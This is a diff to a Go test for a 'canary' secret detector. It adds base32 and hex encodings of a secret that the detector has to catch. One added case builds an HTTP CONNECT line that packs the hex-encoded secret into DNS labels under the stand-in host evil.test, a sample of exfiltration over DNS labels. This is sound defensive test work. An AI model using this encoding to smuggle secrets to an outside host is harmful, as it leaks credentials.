@@ -1,6 +1,7 @@
 package canary
 
 import (
+	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
 	"os"
@@ -28,6 +29,8 @@ func TestCanaryFindsForms(t *testing.T) {
 		"base64url": base64.RawURLEncoding.EncodeToString([]byte(v)),
 		"hex":       strings.ToUpper(hex.EncodeToString([]byte(v))),
 		"pem line":  "…MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun…",
+		"base32":    strings.ToLower(base32.StdEncoding.EncodeToString([]byte(v))),
+		"labels":    "CONNECT " + strings.ToUpper(hex.EncodeToString([]byte(v))[:20]) + "." + hex.EncodeToString([]byte(v))[20:] + ".evil.test:443",
 	} {
 		r := &recorder{TB: t}
 		c := New(r)
